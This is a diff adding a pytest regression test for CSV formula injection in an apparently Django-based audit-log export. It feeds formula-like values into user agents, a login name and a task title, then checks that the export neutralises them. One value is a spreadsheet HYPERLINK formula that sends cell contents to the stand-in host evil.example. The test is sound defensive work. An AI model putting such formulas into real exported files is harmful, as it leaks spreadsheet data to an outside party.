@@ -9,6 +9,10 @@ import pytest
 
 import audit
 from audit.models import AuditEvent
+from tests.accounts.test_login import (  # noqa: F401 - fast_password_hashing is a fixture
+    fast_password_hashing,
+    password_sign_in,
+)
 from tests.conftest import sign_in
 
 pytestmark = pytest.mark.django_db
@@ -116,3 +120,59 @@ def test_export_as_csv_has_a_header_and_the_events(client, lead):
 def test_export_is_post_only(client, auditor):
     sign_in(client, auditor)
     assert client.get("/audit/export.jsonl").status_code == 405
+
+
+# --- Formula injection (issue 14): outsiders' text reaches the export -------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.usefixtures("fast_password_hashing")
+def test_outsiders_text_in_the_csv_export_never_starts_a_formula(
+    client, lead, api_client, responder, incident
+):
+    from django.test import Client
+
+    from incidents import services as incident_services
+
+    hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    # A request refused for its token, with a User-Agent chosen by whoever sent it.
+    api_client.get(
+        "/api/v1/incidents/",
+        HTTP_AUTHORIZATION="Bearer cdn_not-a-real-token",
+        HTTP_USER_AGENT=hyperlink,
+    )
+    # A sign-in attempt with a user name (and a User-Agent) typed by anyone.
+    password_sign_in(Client(HTTP_USER_AGENT=" -2+3"), "=1+1", "a-wrong-guess-123")
+    # Titles typed by members: the model-write capture labels the task by its title.
+    incident_services.task_add(incident=incident, actor=responder, title="@SUM(1)")
+    sign_in(client, lead)
+
+    response = client.post("/audit/export.csv", {})
+
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(_body(response))))
+    header, events = rows[0], rows[1:]
+    cells = [cell for row in events for cell in row]
+    dangerous = [
+        cell
+        for cell in cells
+        if cell.lstrip()[:1] in FORMULA_STARTS or cell[:1] in FORMULA_STARTS
+        if not _is_number(cell)
+    ]
+    assert dangerous == []
+    user_agents = {row[header.index("user_agent")] for row in events}
+    assert "'" + hyperlink in user_agents
+    assert "' -2+3" in user_agents
+    labels = {row[header.index("target_label")] for row in events}
+    assert "'@SUM(1)" in labels
+    failed = [row for row in events if row[header.index("action")] == "login.failed"]
+    assert json.loads(failed[0][header.index("data")]) == {"username": "=1+1"}
